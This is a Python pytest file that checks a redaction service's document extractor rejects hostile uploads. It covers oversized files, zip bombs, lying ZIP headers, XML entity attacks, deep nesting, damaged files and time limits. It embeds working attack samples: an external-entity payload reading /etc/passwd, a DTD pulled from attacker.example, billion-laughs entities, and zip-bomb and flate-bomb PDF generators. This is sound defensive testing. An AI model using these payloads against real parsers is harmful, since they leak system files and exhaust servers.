"""Hostile files: too big, zip bombs, XML entity attacks, damaged files, and documents that take too long."""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib

import pytest

from services.redaction.documents import (
    DocumentKind,
    DocumentTimeout,
    DocumentTooLarge,
    Limits,
    UnreadableDocument,
    extract,
    extract_isolated,
    sniff,
)
from tests.redaction.test_documents import cv_docx, cv_odt, two_column_pdf

MB = 1024 * 1024


def _with_entries(base: bytes, entries: dict[str, bytes], replace: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if not (replace and item.filename in entries):
                dst.writestr(item, src.read(item.filename))
        for name, body in entries.items():
            dst.writestr(name, body)
    return out.getvalue()


def _zip_bomb(size: int) -> bytes:
    """A real DOCX with one extra part of `size` zero bytes, written in chunks (never all in memory)."""
    out = io.BytesIO(cv_docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z, z.open("word/media/bomb.bin", "w") as part:
        chunk = bytes(MB)
        for _ in range(size // MB):
            part.write(chunk)
    return out.getvalue()


def _check(error: pytest.ExceptionInfo[Exception], status: int, *words: str) -> None:
    detail = error.value.detail  # type: ignore[attr-defined]
    assert error.value.status == status  # type: ignore[attr-defined]
    for word in words:
        assert word in detail
    assert "Agnieszka" not in detail


def test_a_file_over_the_size_limit_is_refused_before_parsing() -> None:
    for call in (lambda: sniff(bytes(11 * MB)), lambda: extract(bytes(11 * MB), DocumentKind.txt)):
        with pytest.raises(DocumentTooLarge) as caught:
            call()
        _check(caught, 413, "10 MB")


def test_zip_bomb_refused_from_the_directory_with_default_limits() -> None:
    bomb = _zip_bomb(101 * MB)
    assert len(bomb) < MB  # small on the wire
    for call in (lambda: sniff(bomb, "docx"), lambda: extract(bomb, DocumentKind.docx)):
        with pytest.raises(DocumentTooLarge) as caught:
            call()
        _check(caught, 413, "unpacks to", "the limit is 100 MB")


def test_zip_part_compressed_beyond_the_ratio_is_refused() -> None:
    with pytest.raises(DocumentTooLarge) as caught:
        extract(_zip_bomb(5 * MB), DocumentKind.docx)
    _check(caught, 413, "compressed more than 100 to 1")


def test_zip_directory_that_lies_about_sizes_inflates_no_further() -> None:
    """A part that claims 1,000 bytes but inflates to 20 MB: read stops at the claim and the CRC fails."""
    data = bytearray(_with_entries(cv_docx(), {"word/lie.xml": bytes(20 * MB)}))
    name = b"word/lie.xml"
    local = data.find(name) - 30
    central = data.find(name, local + 31) - 46
    struct.pack_into("<I", data, local + 22, 1000)
    struct.pack_into("<I", data, central + 24, 1000)
    assert sniff(bytes(data)) is DocumentKind.docx  # the directory passes the limits...
    with pytest.raises(UnreadableDocument) as caught:  # ...and reading the part stops at its claimed size
        extract(bytes(data), DocumentKind.docx)
    _check(caught, 422, "damaged")


def test_zip_with_too_many_entries_is_refused() -> None:
    many = _with_entries(cv_odt(), {f"Pictures/{i}.png": b"x" for i in range(60)})
    with pytest.raises(DocumentTooLarge) as caught:
        extract(many, DocumentKind.odt, Limits(max_zip_entries=50))
    _check(caught, 413, "parts")


XXE = b"""<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&lol4;</w:t></w:r></w:p></w:body></w:document>"""
NO_ENTITY_DTD = b"""<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "http://attacker.example/x.dtd">
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>"""


@pytest.mark.parametrize("xml", [XXE, LAUGHS, NO_ENTITY_DTD], ids=["external-entity", "billion-laughs", "dtd"])
@pytest.mark.parametrize(("base", "part", "kind"), [(cv_docx, "word/document.xml", DocumentKind.docx),
                                                    (cv_docx, "word/header1.xml", DocumentKind.docx),
                                                    (cv_odt, "content.xml", DocumentKind.odt)],
                         ids=["docx-body", "docx-header", "odt-content"])
def test_xml_with_a_dtd_is_refused(xml: bytes, base, part: str, kind: DocumentKind) -> None:  # type: ignore[no-untyped-def]
    hostile = _with_entries(base(), {part: xml}, replace=True)
    with pytest.raises(UnreadableDocument) as caught:
        extract(hostile, kind)
    _check(caught, 422, "DTD")


def test_absurdly_deep_nesting_is_a_422_not_a_crash() -> None:
    depth = 5000
    body = ("<w:sdt><w:sdtContent>" * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>"
            + "</w:sdtContent></w:sdt>" * depth)
    xml = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           f"{body}</w:body></w:document>").encode()
    with pytest.raises(UnreadableDocument) as caught:
        extract(_with_entries(cv_docx(), {"word/document.xml": xml}, replace=True), DocumentKind.docx)
    _check(caught, 422, "nested")


def test_entity_attack_in_the_content_types_is_refused_by_sniff() -> None:
    hostile = _with_entries(cv_docx(), {"[Content_Types].xml": LAUGHS}, replace=True)
    with pytest.raises(UnreadableDocument) as caught:
        sniff(hostile)
    _check(caught, 422)


@pytest.mark.parametrize(("data", "kind"), [
    (b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage", DocumentKind.pdf),
    (b"%PDF-1.4\n" + bytes(5000), DocumentKind.pdf),
    (b"PK\x03\x04 not a zip at all", DocumentKind.docx),
    (b"PK\x03\x04 not a zip at all", DocumentKind.odt),
], ids=["pdf-garbage", "pdf-zeros", "docx-garbage", "odt-garbage"])
def test_damaged_files_get_a_422_not_a_crash(data: bytes, kind: DocumentKind) -> None:
    with pytest.raises(UnreadableDocument) as caught:
        extract(data, kind)
    _check(caught, 422, "ask the candidate")


def test_docx_without_its_main_part_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(cv_docx())) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            if item.filename != "word/document.xml":
                dst.writestr(item, src.read(item.filename))
    with pytest.raises(UnreadableDocument):
        extract(out.getvalue(), DocumentKind.docx)


def test_time_limit_per_document() -> None:
    with pytest.raises(DocumentTimeout) as caught:
        extract(two_column_pdf(), DocumentKind.pdf, Limits(max_seconds=0))
    _check(caught, 422, "0-second limit")


def test_page_limit() -> None:
    with pytest.raises(DocumentTooLarge) as caught:
        extract(two_column_pdf(), DocumentKind.pdf, Limits(max_pages=1))
    _check(caught, 413, "2 pages")


def test_text_limit() -> None:
    with pytest.raises(DocumentTooLarge) as caught:
        extract(("word " * 100).encode(), DocumentKind.txt, Limits(max_chars=100))
    _check(caught, 413, "characters")


# ---------------------------------------------------------------- hard limits in a child process

def _flate_bomb_pdf(megabytes: int) -> bytes:
    """A valid one-page PDF whose content stream inflates to `megabytes` MB of spaces."""
    packer = zlib.compressobj(9)
    stream = packer.compress(b"BT /F1 12 Tf 72 720 Td (Flate bomb) Tj ET\n")
    chunk = b" " * MB
    stream += b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, io.SEEK_END)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def test_isolated_extraction_gives_the_same_result() -> None:
    assert extract_isolated(cv_docx(), DocumentKind.docx) == extract(cv_docx(), DocumentKind.docx)


def test_isolated_extraction_passes_errors_through() -> None:
    with pytest.raises(DocumentTooLarge) as caught:
        extract_isolated(two_column_pdf(), DocumentKind.pdf, Limits(max_pages=1))
    _check(caught, 413, "2 pages")


def test_isolated_extraction_refuses_a_pdf_that_inflates_beyond_the_memory_limit() -> None:
    bomb = _flate_bomb_pdf(200)
    assert len(bomb) < 300_000
    with pytest.raises((DocumentTooLarge, UnreadableDocument)) as caught:
        extract_isolated(bomb, DocumentKind.pdf, memory_mb=300)
    _check(caught, caught.value.status, "memory")  # type: ignore[attr-defined]


def test_isolated_extraction_is_killed_at_the_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules["services.redaction.documents.isolated"], "GRACE_SECONDS", 0.0)
    with pytest.raises(DocumentTimeout) as caught:
        extract_isolated(_flate_bomb_pdf(100), DocumentKind.pdf, Limits(max_seconds=0.3))
    _check(caught, 422, "limit")
